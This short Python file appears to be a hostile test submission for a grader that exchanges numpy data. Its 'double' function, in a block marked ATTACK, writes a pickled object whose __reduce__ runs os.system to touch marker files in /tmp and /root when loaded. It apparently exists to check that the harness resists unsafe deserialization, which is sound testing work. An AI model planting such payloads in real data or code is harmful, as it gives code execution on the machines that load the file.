# hostile hostile_reduce: return objects (plain and in an object array, and a pickled .npz) whose __reduce__ runs a shell
import numpy as np
import os


def double(x):
    # ATTACK
    class Rce:
        def __reduce__(self):
            return (os.system, ("touch /tmp/@PWN@ /root/@PWN@",))
    import json, pickle
    todo = json.load(open("todo.json"))
    with open(os.path.join("out", todo[0] + ".npz"), "wb") as f:
        np.save(f, np.array([Rce()], dtype=object), allow_pickle=True)
    return {"__nd__": "a0"}
    # END ATTACK
    return 3.0 * np.asarray(x)  # wrong on purpose: the baseline scores 0 on T1


def pair(a, b):
    return np.asarray(a) + b, np.asarray(a) * b


def noisy_mean(n, rng):
    return float(rng.normal(size=n).mean())


class Counter:
    def __init__(self, start):
        self.count = start

    def tick(self, k=1):
        self.count += k
        return self.count
